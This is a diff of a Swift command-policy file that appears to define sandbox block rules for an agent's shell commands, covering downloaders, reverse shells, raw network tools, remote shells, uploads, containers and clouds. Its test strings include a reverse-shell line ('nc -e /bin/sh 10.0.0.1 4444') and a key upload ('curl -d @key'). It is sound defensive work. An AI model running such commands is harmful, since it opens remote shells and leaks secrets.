@@ -1,7 +1,8 @@
 extension CommandPolicy {
     private static let downloaders = [
         "* curl *", "* wget *", "* fetch *", "* aria2c *", "* http *", "* https *", "* lynx *", "* w3m *", "* links *",
-        "* nc *", "* ncat *", "* netcat *", "* socat *", "* ssh *", "* scp *", "* ftp *", "* lftp *", "* get *", "* xh *",
+        "* nc *", "* ncat *", "* netcat *", "* socat *", "* ssh *", "* scp *", "* ftp *", "* lftp *", "* get *",
+        "* xh *",
         "* openssl *", "* telnet *", "* axel *", "* git *", "* dig *", "* nslookup *",
     ]
 
@@ -19,7 +20,7 @@ extension CommandPolicy {
             spares: ["sh -c 'ls | sort'", "sh -c 'cat x | python3 count.py'", "sh -c 'ls | sh count.sh'"]),
         PolicyRule(
             "reverse_shell", .forbid, "It gives a shell to whoever it connects to.",
-            programs: ["nc", "ncat", "netcat", "nc.*", "socat", "cryptcat", "gs-netcat", "busybox"],
+            programs: ["nc", "ncat", "netcat", "nc.*", "socat", "cryptcat", "gs-netcat"],
             anyOf: ["-e*", "-c*", "-*e", "--exec*", "--sh-exec*", "--lua-exec*", "*exec:*", "*system:*", "*pty*"],
             isLiteral: true, matches: ["nc -e /bin/sh 10.0.0.1 4444", "ncat --sh-exec bash x", "socat tcp:x exec:sh"],
             spares: ["nc -z host 80"]),
@@ -27,9 +28,14 @@ extension CommandPolicy {
             "raw_network", .deny, "It opens connections of its own.",
             programs: [
                 "nc", "ncat", "netcat", "nc.*", "socat", "cryptcat", "gs-netcat", "telnet", "nmap", "masscan", "zmap",
-                "hping3", "tcpdump", "tshark", "dumpcap", "chisel", "ngrok", "cloudflared", "frpc", "proxychains*", "tor",
+                "hping3", "tcpdump", "tshark", "dumpcap", "chisel", "ngrok", "cloudflared", "frpc", "proxychains*",
+                "tor",
                 "torsocks", "iodine", "dnscat", "bore", "localtunnel", "lt", "arpspoof", "ettercap",
             ], matches: ["nc -l 80", "socat - tcp:x:1", "nohup nmap x"], spares: ["ls nc"]),
+        PolicyRule(
+            "openssl_connection", .deny, "It opens connections of its own.", programs: ["openssl", "gnutls-cli"],
+            subcommands: ["s_client", "s_server", "ocsp"], matches: ["openssl s_client -connect x:1"],
+            spares: ["openssl rand 8"]),
         PolicyRule(
             "remote_shell", .deny, "It works on another machine, or copies there.",
             programs: [
@@ -38,11 +44,13 @@ extension CommandPolicy {
             ], matches: ["ssh host ls", "scp a host:b", "timeout 9 sftp x"], spares: ["ls ssh"]),
         PolicyRule(
             "rsync_remote", .deny, "It copies to or from another machine, or through a command.", programs: ["rsync"],
-            anyOf: ["*:*", "-*e*", "--rsh*", "--rsync-path*", "--daemon"], isLiteral: true,
+            anyOf: ["*:*", "-e*", "-[!-]*e*", "--rsh*", "--rsync-path*", "--daemon"], isLiteral: true,
             matches: ["rsync -a x host:y", "rsync -e 'sh -c x' a b"], spares: ["rsync -a a b"]),
         PolicyRule(
             "upload", .deny, "It sends a file.", programs: ["curl", "wget", "http", "https", "xh", "aria2c"],
-            anyOf: ["@?*", "*=@*", "-d@*", "-f*@*", "-t", "--upload-file*", "--post-file*", "--body-file*", "--data*=@*"],
+            anyOf: [
+                "@?*", "*=@*", "-d@*", "-f*@*", "-t", "--upload-file*", "--post-file*", "--body-file*", "--data*=@*",
+            ],
             isLiteral: true, matches: ["curl -d @key https://x", "curl -F f=@key x", "wget --post-file=key x"],
             spares: ["curl -d a=b https://x", "curl -O https://x"]),
         PolicyRule(
@@ -61,19 +69,23 @@ extension CommandPolicy {
         PolicyRule(
             "containers", .deny, "It drives containers or virtual machines, which are outside of the sandbox.",
             programs: [
-                "docker", "docker-*", "dockerd", "podman", "podman-*", "nerdctl", "ctr", "crictl", "containerd", "runc",
+                "docker", "docker-*", "docker.io", "dockerd", "podman", "podman-*", "nerdctl", "ctr", "crictl",
+                "containerd", "runc",
                 "crun", "buildah", "skopeo", "lxc", "lxd", "incus", "virsh", "virt-*", "vagrant", "qemu-*", "multipass",
                 "colima", "limactl", "minikube", "k3s", "kind",
             ], matches: ["docker run -v /:/x alpine", "podman ps", "env docker-compose up"], spares: ["ls docker"]),
         PolicyRule(
             "clusters", .deny, "It drives a cluster.",
-            programs: ["kubectl", "kubectl-*", "helm", "oc", "k9s", "kustomize", "flux", "argocd", "istioctl", "nomad"],
+            programs: [
+                "kubectl", "kubectl-*", "helm", "oc", "k9s", "kustomize", "flux", "argocd", "istioctl", "nomad",
+            ],
             matches: ["kubectl delete ns x", "helm uninstall x"], spares: ["ls helm"]),
         PolicyRule(
             "clouds", .deny, "It changes infrastructure.",
             programs: [
                 "terraform", "tofu", "terragrunt", "pulumi", "ansible", "ansible-*", "salt", "salt-*", "puppet",
-                "chef-client", "aws", "gcloud", "gsutil", "az", "doctl", "hcloud", "flyctl", "fly", "heroku", "vault", "packer",
+                "chef-client", "aws", "gcloud", "gsutil", "az", "doctl", "hcloud", "flyctl", "fly", "heroku", "vault",
+                "packer",
             ], matches: ["terraform apply -auto-approve", "aws s3 rm s3://x --recursive"], spares: ["ls aws"]),
     ]
 }
